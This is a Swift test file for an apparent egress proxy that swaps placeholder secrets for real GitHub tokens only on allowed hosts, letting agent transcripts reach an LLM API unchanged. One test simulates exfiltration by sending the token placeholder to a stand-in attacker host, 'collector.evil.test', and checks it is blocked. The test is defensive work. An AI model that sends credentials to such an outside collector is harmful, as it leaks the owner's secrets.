import KeyholeEngine
import KeyholePolicy
import NIOCore
import Testing

/// Per-secret passthrough hosts: an agent's transcript that quotes the placeholder goes to
/// an LLM API unchanged (not a violation, never the value); anywhere else the same
/// placeholder is still blocked.
@Suite("Passthrough hosts")
struct PassthroughTests {
    let token = Secret(
        env: "GITHUB_TOKEN", value: SecretValue("ghp_real_value_123"), allowedHosts: HostAllowList(exact: ["api.github.com"]),
        inject: Injection(headers: true, body: true), passthroughHosts: HostAllowList(exact: ["api.llm.test"]))

    func run(_ request: String, sni: String, chunk: Int? = nil) -> (text: String, events: [RewriteEvent]) {
        let rewriter = RequestRewriter(identity: .verifiedTLS(sni: sni), secrets: [token])
        var output = RewriteOutput()
        let bytes = Array(request.utf8)
        let size = chunk ?? bytes.count
        var offset = 0
        while offset < bytes.count {
            rewriter.consume(ByteBuffer(bytes: bytes[offset..<min(bytes.count, offset + size)]), into: &output)
            offset += size
        }
        rewriter.finish(into: &output)
        return (output.upstream.map { String(buffer: $0) }.joined(), output.events)
    }

    @Test func aTranscriptQuotingThePlaceholderReachesThePassthroughHostUnchanged() {
        let body = "{\"messages\":[{\"role\":\"tool\",\"content\":\"GITHUB_TOKEN=$MSB_GITHUB_TOKEN\\nHOME=/root\"}]}"
        for framing in ["Content-Length: \(body.utf8.count)", "Transfer-Encoding: chunked"] {
            let payload = framing.hasPrefix("Content") ? body : String(body.utf8.count, radix: 16) + "\r\n" + body + "\r\n0\r\n\r\n"
            let request = "POST /v1/chat HTTP/1.1\r\nHost: api.llm.test\r\n\(framing)\r\nX-Note: $MSB_GITHUB_TOKEN\r\n\r\n" + payload
            for chunk in [nil, 1, 7] as [Int?] {
                let outcome = run(request, sni: "api.llm.test", chunk: chunk)
                #expect(outcome.text == request, "\(framing) chunk \(chunk ?? 0)")
                #expect(!outcome.text.contains("ghp_real_value_123"))
                #expect(outcome.events.allSatisfy { if case .passedThrough("GITHUB_TOKEN", _, _) = $0 { return true } else { return false } })
                #expect(!outcome.events.isEmpty)
            }
        }
    }

    @Test func elsewhereTheSamePlaceholderIsStillAViolationAndTheAllowedHostStillGetsTheValue() {
        let request = "POST /x HTTP/1.1\r\nHost: collector.evil.test\r\nContent-Length: 16\r\n\r\n$MSB_GITHUB_TOKEN".replacingOccurrences(of: "16", with: "17")
        let elsewhere = run(request, sni: "collector.evil.test")
        #expect(elsewhere.events.contains { if case .violation = $0 { return true } else { return false } })
        #expect(!elsewhere.text.contains("$MSB_GITHUB_TOKEN"), "nothing of the placeholder went on")
        let allowed = run("GET / HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: token $MSB_GITHUB_TOKEN\r\n\r\n", sni: "api.github.com")
        #expect(allowed.text.contains("Authorization: token ghp_real_value_123\r\n"))
    }
}
